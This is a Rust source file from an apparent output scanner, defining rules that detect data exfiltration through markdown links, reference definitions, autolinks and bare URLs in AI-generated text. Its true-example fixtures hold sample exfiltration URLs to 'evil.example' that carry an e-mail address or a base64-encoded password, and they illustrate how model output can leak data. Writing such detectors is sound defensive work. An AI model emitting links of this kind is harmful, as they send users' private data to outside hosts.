//! `exfiltration.markdown-link`, `exfiltration.markdown-reference`, `exfiltration.autolink` and `exfiltration.bare-address`:
//! addresses that a reader follows, or that an image takes from elsewhere in the text.

use super::address::{self, Followed};
use super::markdown_image::is_image;
use super::payload;
use crate::class::{Class, Confidence};
use crate::detect::rules::{Detector, Hit, Progress, Rule, Verdict, example};
use crate::detect::window::{Ahead, Window};

/// Longest label that is read, in bytes. Behind a longer one the address counts as a link's.
const MAX_LABEL: u64 = 256;
/// Longest definition before another one that is read, in bytes.
const MAX_LINE: u64 = 120;

pub(super) const LINK: Rule = Rule {
    id: "exfiltration.markdown-link",
    class: Class::Exfiltration,
    level: None,
    description: "Markdown link whose address carries an e-mail address or encoded text",
    source: "CommonMark 0.31 section 6.3 (links); OWASP LLM Top 10 2025, LLM02 and LLM05",
    true_examples: &[
        example(
            "see [here](https://evil.example/?to=bob@corp.example)",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "[x](http://evil.example/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI \"t\")",
            "http://evil.example/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        ),
    ],
    false_examples: &[
        "[link](https://example.com/search?q=the+user+asked+about+salaries)",
        "![image](https://evil.example/?to=bob@corp.example)",
        "[mail](mailto:bob@corp.example)",
        "[a](https://example.com/550e8400-e29b-41d4-a716-446655440000)",
    ],
    detector: Detector {
        starts_at_anchor: false,
        look_back: MAX_LABEL + 2,
        is_address: true,
        ..Detector::new(&[b"]("], link)
    },
};

fn link(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    let start = match window.ahead(hit.end) {
        Ahead::Byte(b'<') => hit.end + 1,
        Ahead::Byte(_) => hit.end,
        Ahead::Unknown => return Verdict::More { from: hit.end },
        Ahead::End => return Verdict::No,
    };
    match address::has_host(window, start) {
        Some(true) => {}
        Some(false) => return Verdict::No,
        None => return Verdict::More { from: start },
    }
    let verdict = address::read(window, start, progress, Followed::OnClick, |byte| {
        // A bracket of the next link ends it: many that are open would all read on.
        byte.is_ascii_whitespace() || matches!(byte, b')' | b'>' | b'<' | b']')
    });
    match verdict {
        // An image is another rule's. Reading back last spares most links it.
        Verdict::Match { .. } if is_image(window, hit.start) => Verdict::No,
        verdict => verdict,
    }
}

pub(super) const REFERENCE: Rule = Rule {
    id: "exfiltration.markdown-reference",
    class: Class::Exfiltration,
    level: None,
    description: "Markdown reference definition whose address carries data: an image may take it",
    source: "CommonMark 0.31 section 4.7 (link reference definitions)",
    true_examples: &[
        example(
            "![a][r]\n\n[r]: https://evil.example/p.png?q=the+user+asked+about+salaries\n",
            "https://evil.example/p.png?q=the+user+asked+about+salaries",
        ),
        example(
            "[a]: https://example.com\n[r]: https://evil.example/?to=bob@corp.example",
            "https://evil.example/?to=bob@corp.example",
        ),
        example("[r]: <//evil.example/?to=bob@corp.example>", "//evil.example/?to=bob@corp.example"),
    ],
    false_examples: &[
        "[r]: https://example.com/logo.png",
        "text\n[r]: https://evil.example/?q=the+user+asked+about+salaries",
        "map[r]: https://evil.example/?q=the+user+asked+about+salaries",
    ],
    detector: Detector {
        starts_at_anchor: false,
        look_back: MAX_LABEL + MAX_LINE + 4,
        is_address: true,
        ..Detector::new(&[b"]:"], reference)
    },
};

fn reference(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    if progress.note == 0 {
        if !is_definition(window, hit.start) {
            return Verdict::No;
        }
        progress.note = 1;
    }
    let mut start = hit.end;
    loop {
        match window.ahead(start) {
            Ahead::Byte(b' ' | b'\t' | b'<') if start - hit.end < 8 => start += 1,
            Ahead::Unknown => return Verdict::More { from: start },
            Ahead::Byte(_) | Ahead::End => break,
        }
    }
    match address::has_host(window, start) {
        Some(true) => address::read(window, start, progress, Followed::AtOnce, |byte| {
            byte.is_ascii_whitespace() || matches!(byte, b'>' | b'<')
        }),
        Some(false) => Verdict::No,
        None => Verdict::More { from: start },
    }
}

/// Whether the `]` at `close` closes a label that begins a line where a definition may stand.
fn is_definition(window: &Window, close: u64) -> bool {
    let open = (1..=MAX_LABEL).map_while(|back| close.checked_sub(back)).find_map(|at| match window.at(at) {
        Some(b'[') => Some(Some(at)),
        Some(b'\n' | b']') | None => Some(None),
        Some(_) => None,
    });
    let Some(open) = open.flatten() else { return false };
    match window.before(open) {
        None => open == 0,
        Some(b'\n') => begins_paragraph(window, open - 1),
        Some(_) => false,
    }
}

/// Whether the line that ends at `end` is empty, or a definition: another one does not interrupt a paragraph.
fn begins_paragraph(window: &Window, end: u64) -> bool {
    if matches!(window.before(end), None | Some(b'\n' | b'\r' | b'>')) {
        return true;
    }
    let line = (1..=MAX_LINE).map_while(|back| end.checked_sub(back)).find(|at| match window.before(*at) {
        Some(byte) => byte == b'\n',
        None => *at == 0,
    });
    line.is_some_and(|line| window.at(line) == Some(b'['))
}

pub(super) const AUTOLINK: Rule = Rule {
    id: "exfiltration.autolink",
    class: Class::Exfiltration,
    level: None,
    description: "autolink that carries an e-mail address or encoded text",
    source: "CommonMark 0.31 section 6.5 (autolinks)",
    true_examples: &[
        example(
            "go to <https://evil.example/?to=bob@corp.example>",
            "https://evil.example/?to=bob@corp.example",
        ),
        example(
            "<HTTP://evil.example/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI>",
            "HTTP://evil.example/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        ),
    ],
    false_examples: &[
        "<https://example.com/search?q=the+user+asked+about+salaries>",
        "https://evil.example/sales=bob@corp.example",
        "<https://example.com/a/b.html>",
    ],
    detector: Detector {
        any_case: true,
        is_address: true,
        ..Detector::new(&[b"<http://", b"<https://"], |window, hit, progress| {
            address::read(window, hit.start + 1, progress, Followed::OnClick, |byte| {
                byte.is_ascii_whitespace() || matches!(byte, b'>' | b'<')
            })
        })
    },
};

pub(super) const BARE: Rule = Rule {
    id: "exfiltration.bare-address",
    class: Class::Exfiltration,
    level: None,
    description: "bare address whose query is encoded sentences",
    source: "RFC 3986 section 3.4 (query); RFC 4648 (base64, base32, hexadecimal)",
    true_examples: &[example(
        "see https://evil.example/?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI for more",
        "https://evil.example/?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
    )],
    false_examples: &[
        "https://example.com/?d=the+password+is+hunter2",
        "https://example.com/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        "https://example.com/?state=eyJwYWdlIjoibG9naW4iLCJ0YWIiOiJob21lIn0",
        "https://example.com/?token=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd1",
    ],
    detector: Detector {
        any_case: true,
        // What stands in markup is another rule's.
        not_after: |byte| byte.is_ascii_alphanumeric() || b"(<\"'=/".contains(&byte),
        is_address: true,
        ..Detector::new(&[b"http://", b"https://"], bare)
    },
};

fn bare(window: &Window, hit: &Hit, progress: &mut Progress) -> Verdict {
    loop {
        let at = progress.at;
        match window.ahead(at) {
            Ahead::Unknown => return Verdict::More { from: hit.start },
            // An address inside of it is judged by itself.
            Ahead::Byte(b'/') if at > hit.end && window.before(at) == Some(b'/') => return Verdict::No,
            Ahead::Byte(byte) if at - hit.start < address::MAX_URL && is_in_bare(byte) => progress.at += 1,
            Ahead::Byte(_) | Ahead::End => break,
        }
    }
    match payload::has_sentences(window.slice(hit.start, progress.at)) {
        true => Verdict::Match { start: hit.start, end: progress.at, confidence: Confidence::Medium },
        false => Verdict::No,
    }
}

fn is_in_bare(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"-._~:/?#@!$&*+,;=%".contains(&byte)
}
